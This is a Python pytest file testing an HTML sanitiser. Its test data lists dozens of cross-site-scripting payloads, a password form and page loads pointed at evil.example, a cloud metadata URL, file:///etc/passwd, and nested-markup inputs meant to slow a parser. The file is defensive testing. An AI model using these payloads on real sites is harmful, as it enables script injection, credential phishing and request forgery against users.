"""Nothing that a crawl brings can run, load or phone home from a page, and no page is slow because of it."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from curation.web.markup import MOST_DEPTH, VOID, Rewriter
from curation.web.render import json_ld
from curation.web.sanitise import article, highlighted, plain, post, web_address

BASE = "https://wiki.example/handbook/page"
# Seconds for the worst page allowed on a busy machine; measured .3 to 1.5.
PATIENCE = 12.0

ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=xss>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=x style=\"background:url(javascript:alert(1))\">x</a>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"https://evil.example\"><input name=password><button>Sign in</button></form>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<p id=\"csrf_token\" name=\"csrf_token\" class=\"strong\">x</p>",
    "<video><source onerror=alert(1)></video>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<p/onclick=alert(1)>x",
    "<p\x0conclick=alert(1)>x",
    "<<p onclick=alert(1)//<p>x",
    "<!--><script>alert(1)</script>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<a href='https://x\"onmouseover=alert(1) '>x</a>",
    "<td background=\"javascript:alert(1)\">x",
    "<img src=\"http://169.254.169.254/latest/meta-data\">",
    "<img srcset=\"//evil.example/x 1x\" src=\"//evil.example/x\">",
    "<template><script>alert(1)</script></template>",
    "<select><style></select><script>alert(1)</script>",
    "<b\0><scr\0ipt>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
]  # fmt: skip

DEEP = {
    "div": "<div>" * 100_000, "misnested": "<b><div></b>" * 80_000, "unmatched": "<b>" * 100_000 + "</i>" * 100_000,
    "formatting": "".join(f"<b title={n}>" for n in range(30_000)) + "<p>" * 80_000, "lists": "<li><div>" * 100_000,
    "attributes": "<a " + "x=1 " * 200_000 + ">", "quotes": "<a b=\"'" * 140_000, "brackets": "<" * 900_000,
    "comments": "<!--" * 200_000, "scripts": "<script></script>" * 50_000, "tables": "<table><a>" * 90_000,
    "equals": "<a" + "=" * 900_000, "spaces": "<a" + " " * 900_000, "math": "<svg><math>" * 90_000,
}  # fmt: skip


class Seen(HTMLParser):
    """The tags and attributes a browser would find."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def harmless(html: str) -> None:
    """Only tags and attributes that can't run, load or submit; links only to where links may lead."""
    seen = Seen(html)
    forbidden = {"script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "img",
                 "base", "meta", "link", "video", "source", "template", "textarea", "title", "xmp"}  # fmt: skip
    assert forbidden.isdisjoint(seen.tags)
    for tag, name, value in seen.attributes:
        assert name in {"href", "rel", "title", "datetime", "start", "colspan", "rowspan", "scope", "open"}, (tag, name)
        if name == "href":
            assert re.match(r"(https?://|mailto:)", value), value
        if name == "rel":
            assert value == "noopener nofollow ugc"


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_survives_in_a_page_a_post_or_a_highlight(attack: str) -> None:
    for made in (article(attack, "", BASE), article(f"<p>{attack}</p>" * 2, "", BASE), post(attack)):
        harmless(made)
        # Once more through the same door: what a browser would re-parse is as harmless.
        harmless(article(str(made), "", BASE))
    assert set(Seen(highlighted(attack)).tags) <= {"mark"}
    assert Seen(highlighted(attack)).attributes == []
    assert set(Seen(plain(attack)).tags) <= {"p"}


@given(st.text(alphabet=st.sampled_from("<>/!-=\"' abpiu&;:#x0\0\n\t"), max_size=200))
def test_any_soup_of_markup_comes_out_harmless_and_balanced(soup: str) -> None:
    harmless(article(soup, "", BASE))
    written = Rewriter(soup, lambda _name, _attributes: None).run()
    open_tags: list[str] = []
    for closing, name in re.findall(r"<(/?)([a-z0-9]+)[^>]*>", written):
        if closing:
            assert open_tags.pop() == name
        elif name not in VOID:
            open_tags.append(name)
            assert len(open_tags) <= MOST_DEPTH
    assert open_tags == []


@pytest.mark.parametrize("page", DEEP.values(), ids=DEEP.keys())
def test_a_page_made_to_be_slow_is_not(page: str) -> None:
    started = time.perf_counter()
    article(page[:1_000_000], "", BASE)
    assert time.perf_counter() - started < PATIENCE


def test_a_page_too_long_to_clean_is_shown_as_plain_text() -> None:
    shown = article("<p>x</p>" * 200_000, "The text.\n\nMore <b>text</b>.", BASE)
    assert shown == "<p>The text.</p>\n<p>More &lt;b&gt;text&lt;/b&gt;.</p>\n"


def test_structure_and_links_stay_and_lead_to_the_source() -> None:
    shown = article(
        '<h1>Title</h1><p>See <a href="../other#part">other</a>, <a href="#here">here</a>.<ul><li>one<li>two</ul>'
        '<pre><code>a &lt; b</code></pre><table><tr><th scope=col>h</th></tr><tr><td>d</td></tr></table>',
        "", BASE,
    )  # fmt: skip
    assert "<h2>Title</h2>" in shown
    assert 'href="https://wiki.example/other#part"' in shown and f'href="{BASE}#here"' in shown
    assert "<ul><li>one</li><li>two</li></ul>" in shown and "<code>a &lt; b</code>" in shown and "<td>d</td>" in shown


def test_a_picture_becomes_words_that_link_to_it() -> None:
    shown = article(
        '<p><img src="a.png" alt="The <plan> & more"><img src=b.gif width=1><a href=x><img src=c.png></a>', "", BASE
    )
    assert ">[Picture: The &lt;plan&gt; &amp; more]</a>" in shown
    assert 'href="https://wiki.example/handbook/a.png"' in shown
    assert "b.gif" not in shown and "c.png" not in shown and "[Picture]" in shown


def test_a_heading_that_repeats_the_title_is_left_out_and_others_stay() -> None:
    assert article("<h1>Rolling <em>back</em> & on</h1><p>x", "", BASE, "rolling back &  on") == "<p>x</p>"
    assert article("<h2>Something else</h2><p>x", "", BASE, "Rolling back").startswith("<h2>")


def test_an_address_that_is_no_web_address_is_no_link() -> None:
    for address in (
        "javascript:alert(1)",
        "data:text/html,x",
        "file:///etc/passwd",
        "http://[",
        "https://" + "x" * 3000,
        "//",
    ):
        assert web_address(address) == ""
    assert web_address("//cdn.example/x", BASE) == "https://cdn.example/x"
    assert web_address("mailto:ada@example.org") == "mailto:ada@example.org"


def test_markdown_in_a_post_works_and_html_in_it_is_words() -> None:
    shown = post("**Bold** and `code`\n\n<script>alert(1)</script>\n\n[x](javascript:alert(1))")
    assert "<strong>Bold</strong>" in shown and "<code>code</code>" in shown and "&lt;script&gt;" in shown
    assert "javascript" not in str(Seen(shown).attributes)


def test_data_for_machines_can_not_leave_its_script_element() -> None:
    written = json_ld({"name": "</script><script>alert(1)</script><!-- &amp; \u2028"})
    assert not set("<>&\u2028") & set(written)
